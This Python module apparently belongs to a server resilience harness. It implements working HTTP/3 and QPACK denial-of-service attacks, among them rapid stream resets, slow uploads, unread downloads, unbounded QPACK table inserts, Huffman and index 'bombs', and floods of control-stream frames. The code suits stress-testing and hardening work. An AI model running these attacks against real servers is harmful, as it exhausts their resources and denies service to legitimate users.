"""Attacks over HTTP/3 with streams, with QPACK, and with frames of its control stream, as small functions."""

import time

from h3_hostile import PATIENCE, Hostile, frame, literal, number, prefixed, request

HEADERS, DATA, SETTINGS, PRIORITY_UPDATE, UNKNOWN = 1, 0, 4, 0xF0700, 0x21


def partial_heads(field):
    part = number(HEADERS) + number(15_000) + bytes(1000)
    field.streams(max(1, field.units // 100), lambda one, stream, _: [one.on(stream, part)])


def rapid_resets(field):
    head = frame(HEADERS, request(b"/"))

    def frames(one, stream, _):
        reset = b"\x04" + number(stream) + number(0x10C) + number(len(head))
        return [one.on(stream, head) + reset]

    field.streams(10, frames)


def stopped_streams(field):
    head = frame(HEADERS, request(b"/"))

    def frames(one, stream, _):
        return [one.on(stream, head, ends=True) + b"\x05" + number(stream) + number(0x10C)]

    field.streams(10, frames)


def small_windows(field):
    """Downloads of which the client takes one byte a packet."""
    for _ in range(4):
        with field.client(parameters={"initial_max_stream_data_bidi_local": 1}) as one:
            stream = one.new_stream()
            one.inject(one.on(stream, frame(HEADERS, request(b"/big")), ends=True))
            one.quic._write_stream_limits = lambda *_, **__: None
            for nth in range(field.units // 4):
                one.inject(b"\x11" + number(stream) + number(2 + nth))
                field.done += 1


def unread_downloads(field):
    """Downloads of clients that take nothing."""
    unread(field, 1)


def many_unread_downloads(field):
    """Many of them over each connection."""
    unread(field, 50)


def unread(field, downloads):
    clients = []
    while field.done < field.units:
        one = Hostile(field.port, parameters={"initial_max_stream_data_bidi_local": 0})
        one.establish()
        for _ in range(downloads):
            one.inject(one.on(one.new_stream(), frame(HEADERS, request(b"/big")), ends=True))
            field.done += 1
        clients.append(one)
    for one in clients:
        one.pump(0.01)
    time.sleep(PATIENCE)
    for one in clients:
        field.count(one)


def slow_uploads(field):
    """One byte in each packet, without an end."""

    def frames(one, nth):
        if nth == 0:
            return one.on(0, frame(HEADERS, request(b"/up", method=b"POST")) + frame(DATA, b"x", 1 << 20))
        return one.on(0, b"x")

    field.packets(4, frames)


def empty_data(field):
    def frames(one, nth):
        if nth == 0:
            return one.on(0, frame(HEADERS, request(b"/up", method=b"POST")))
        return one.on(0, frame(DATA, b"") * 500)

    field.packets(20, frames)


# ---- QPACK and HTTP/3


def inserts(field):
    """Entries for the table without end: 8 in a packet."""
    entries = literal_insert(b"x" * 100) * 8

    def frames(one, nth):
        more = (prefixed(0x20, 5, 4096) if nth == 0 else b"") + entries
        return one.on(one.encoder, more) if one.wait(lambda: one.room(one.encoder) > len(more)) else b"\x01"

    field.packets(10, frames)


def literal_insert(value):
    return prefixed(0x40, 5, 1) + b"x" + prefixed(0, 7, len(value)) + value


def blocked_sections(field):
    """Heads that need an entry of the table that never comes, and bodies behind them."""
    wanting = frame(HEADERS, request(more=b"\x80", prefix=b"\x02\0")) + frame(DATA, bytes(900))

    def frames(one, stream, nth):
        before = one.on(one.encoder, prefixed(0x20, 5, 4096)) if nth == 0 else b""
        return [before + one.on(stream, wanting)]

    field.streams(max(1, field.units // 16), frames)


def in_packets(one, stream, data, ends=True):
    """The packets with all of a stream."""
    parts = [data[at : at + 1000] for at in range(0, len(data), 1000)]
    return [one.on(stream, part, ends and part is parts[-1]) for part in parts]


def large_heads(field):
    more = b"".join(literal(b"x-%d" % nth, b"y" * 200) for nth in range(300))
    head = frame(HEADERS, request(more=more))
    field.streams(10, lambda one, stream, _: in_packets(one, stream, head))


def huffman_bombs(field):
    """Values of the shortest codes: `0` has five zero bits."""
    coded = bytes(1000)
    line = prefixed(0x20, 3, 1) + b"x" + prefixed(0x80, 7, len(coded)) + coded
    head = frame(HEADERS, request(more=line * 7))
    field.streams(10, lambda one, stream, _: in_packets(one, stream, head))


def index_bombs(field):
    """One entry of the table that fills it, named a thousand times."""
    entry = prefixed(0x20, 5, 4096) + literal_insert(b"v" * 4000)
    head = frame(HEADERS, request(more=b"\x80" * 1000, prefix=b"\x02\0"))

    def frames(one, stream, nth):
        before = []
        if nth == 0:
            before = [one.on(one.encoder, entry[at : at + 1000]) for at in range(0, len(entry), 1000)]
        return before + in_packets(one, stream, head)

    field.streams(10, frames)


def priority_updates(field):
    update = frame(PRIORITY_UPDATE, number(0) + b"u=1")
    field.packets(20, lambda one, nth: one.on(one.control, update * 80))


def unknown_frames(field):
    field.packets(20, lambda one, nth: one.on(one.control, frame(UNKNOWN, b"") * 400))


def many_settings(field):
    """One frame of settings that nobody knows, as long as it may be."""

    def frames(one, nth):
        begin = b"\0" + frame(SETTINGS, b"", 1 << 20) if nth == 0 else b""
        settings = b"".join(number(0x4000_0000 + 200 * nth + each) + b"\0" for each in range(200))
        more = begin + settings
        return one.on(2, more) if one.wait(lambda: one.room(2) > len(more)) else b"\x01"

    field.packets(10, frames, is_silent=True)
